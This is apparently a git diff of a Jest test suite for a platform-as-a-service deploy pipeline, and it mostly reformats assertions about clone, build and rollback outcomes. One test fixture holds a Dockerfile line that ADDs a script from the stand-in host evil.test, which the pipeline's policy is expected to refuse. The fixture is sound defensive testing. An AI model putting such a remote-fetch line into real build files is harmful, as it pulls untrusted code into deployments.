@@ -37,9 +37,20 @@ describe('DeployPipeline', () => {
     const out = await e.pipeline.run(dep.id);
     expect(out).toEqual({ deploymentId: dep.id, status: 'running', reason: null });
     const row = e.repo.app(app.id);
-    expect(row).toMatchObject({ status: 'running', activeDeploymentId: dep.id, detectedType: 'dockerfile', containerPort: 3000, lastError: null });
+    expect(row).toMatchObject({
+      status: 'running',
+      activeDeploymentId: dep.id,
+      detectedType: 'dockerfile',
+      containerPort: 3000,
+      lastError: null,
+    });
     expect(e.driver.workloads.get(row.containerId!)?.state.running).toBe(true);
-    expect(e.repo.deployment(dep.id)).toMatchObject({ status: 'running', commitSha: 'a'.repeat(40), branch: 'main', hostPort: row.hostPort });
+    expect(e.repo.deployment(dep.id)).toMatchObject({
+      status: 'running',
+      commitSha: 'a'.repeat(40),
+      branch: 'main',
+      hostPort: row.hostPort,
+    });
     expectCleanEnd(dep.id, app.id, 'running');
   });
 
@@ -49,7 +60,12 @@ describe('DeployPipeline', () => {
     const out = await e.pipeline.run(dep.id);
     expect(out.status).toBe('failed');
     expect(out.reason).toBe('Could not clone the repository: fatal: unable to access the repository (HTTP 403)');
-    expect(e.repo.deployment(dep.id)).toMatchObject({ status: 'failed', reason: out.reason, imageId: null, containerId: null });
+    expect(e.repo.deployment(dep.id)).toMatchObject({
+      status: 'failed',
+      reason: out.reason,
+      imageId: null,
+      containerId: null,
+    });
     expect(e.repo.app(app.id)).toMatchObject({ status: 'failed', lastError: out.reason, activeDeploymentId: null });
     expect(e.docker.builds).toEqual([]);
     expect(e.driver.workloads.size).toBe(0);
@@ -68,23 +84,37 @@ describe('DeployPipeline', () => {
 
   it('a branch the repository does not have is a clone failure naming it', async () => {
     const { dep } = queued(e.repo.addApp({ repoUrl: REPO_URL, branch: 'release' }));
-    expect((await e.pipeline.run(dep.id)).reason).toBe('Could not clone the repository: the branch release does not exist');
+    expect((await e.pipeline.run(dep.id)).reason).toBe(
+      'Could not clone the repository: the branch release does not exist',
+    );
   });
 
   it('a repository nothing can be detected in fails at detecting, with detect’s reason, and builds nothing', async () => {
-    e.git.repos.set(REPO_URL, { commitSha: 'b'.repeat(40), branch: 'main', files: { 'README.md': '# nothing to run' } });
+    e.git.repos.set(REPO_URL, {
+      commitSha: 'b'.repeat(40),
+      branch: 'main',
+      files: { 'README.md': '# nothing to run' },
+    });
     const { app, dep } = queued();
     const out = await e.pipeline.run(dep.id);
     expect(out.status).toBe('failed');
     expect(out.reason).toBeTruthy();
-    expect(e.repo.deployment(dep.id)).toMatchObject({ status: 'failed', commitSha: 'b'.repeat(40), detectedType: null });
+    expect(e.repo.deployment(dep.id)).toMatchObject({
+      status: 'failed',
+      commitSha: 'b'.repeat(40),
+      detectedType: null,
+    });
     expect(e.repo.app(app.id).status).toBe('failed');
     expect(e.docker.builds).toEqual([]);
     expectCleanEnd(dep.id, app.id, 'failed');
   });
 
   it('an own Dockerfile the policy refuses (remote ADD) fails before the build', async () => {
-    e.git.repos.set(REPO_URL, { commitSha: COMMIT_B, branch: 'main', files: { Dockerfile: 'FROM node:22-alpine\nADD https://evil.test/x.sh /x.sh\n' } });
+    e.git.repos.set(REPO_URL, {
+      commitSha: COMMIT_B,
+      branch: 'main',
+      files: { Dockerfile: 'FROM node:22-alpine\nADD https://evil.test/x.sh /x.sh\n' },
+    });
     const { dep } = queued();
     const out = await e.pipeline.run(dep.id);
     expect(out.status).toBe('failed');
@@ -100,7 +130,11 @@ describe('DeployPipeline', () => {
   });
 
   it('a build failure names the failing step; the slot is released and no container starts', async () => {
-    e.docker.outcomes.push({ kind: 'fail', message: 'The command "npm ci" returned a non-zero code: 1', lines: ['npm ERR! missing lockfile'] });
+    e.docker.outcomes.push({
+      kind: 'fail',
+      message: 'The command "npm ci" returned a non-zero code: 1',
+      lines: ['npm ERR! missing lockfile'],
+    });
     const { app, dep } = queued();
     const out = await e.pipeline.run(dep.id);
     expect(out.reason).toBe('The build failed: The command "npm ci" returned a non-zero code: 1');
@@ -123,7 +157,9 @@ describe('DeployPipeline', () => {
     e.sandbox.diskFullAfterMs = 10;
     e.docker.outcomes.push({ kind: 'hang' });
     const { dep } = queued();
-    expect((await e.pipeline.run(dep.id)).reason).toBe('The build failed: the build wrote more than its disk cap (PAAS_BUILD_DISK_MB)');
+    expect((await e.pipeline.run(dep.id)).reason).toBe(
+      'The build failed: the build wrote more than its disk cap (PAAS_BUILD_DISK_MB)',
+    );
     expect(e.sandbox.open.size).toBe(0);
   });
 
@@ -160,7 +196,12 @@ describe('DeployPipeline', () => {
     expect(out.status).toBe('failed');
     expect(out.reason).toMatch(/exited with code 1.*\n.*Cannot find module/s);
     const app = e.repo.app(before.app.id);
-    expect(app).toMatchObject({ status: 'running', activeDeploymentId: before.dep.id, containerId: before.app.containerId, hostPort: before.app.hostPort });
+    expect(app).toMatchObject({
+      status: 'running',
+      activeDeploymentId: before.dep.id,
+      containerId: before.app.containerId,
+      hostPort: before.app.hostPort,
+    });
     expect(app.lastError).toMatch(/^The latest deployment failed; the previous one still serves\./);
     expect(e.repo.deployment(before.dep.id).status).toBe('running');
     expect([...e.driver.workloads.keys()]).toEqual([before.app.containerId]);
@@ -193,7 +234,10 @@ describe('DeployPipeline', () => {
     const other = e.repo.addDeployment(e.repo.addApp({ repoUrl: REPO_URL }).id);
     const newest = e.repo.addDeployment(app.id);
     await e.pipeline.run(newest.id);
-    expect(e.repo.deployment(older.id)).toMatchObject({ status: 'superseded', reason: 'Coalesced into a newer deployment of the same app.' });
+    expect(e.repo.deployment(older.id)).toMatchObject({
+      status: 'superseded',
+      reason: 'Coalesced into a newer deployment of the same app.',
+    });
     expect(e.repo.deployment(other.id).status).toBe('queued');
     // The superseded job, when its turn comes, does nothing.
     const clones = e.git.clones.length;
